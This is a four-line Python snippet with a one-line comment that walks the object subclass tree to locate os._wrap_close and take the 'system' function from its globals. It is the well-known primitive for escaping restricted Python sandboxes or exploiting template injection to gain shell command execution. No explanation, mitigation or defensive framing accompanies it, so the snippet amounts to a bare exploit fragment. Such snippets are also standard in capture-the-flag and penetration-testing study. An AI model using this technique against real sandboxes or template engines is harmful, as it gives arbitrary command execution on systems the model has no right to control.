# the classic ().__class__.__base__.__subclasses__() walk to find os._wrap_close
for cls in ().__class__.__base__.__subclasses__():
    if cls.__name__ == '_wrap_close':
        escaped = cls.__init__.__globals__['system']
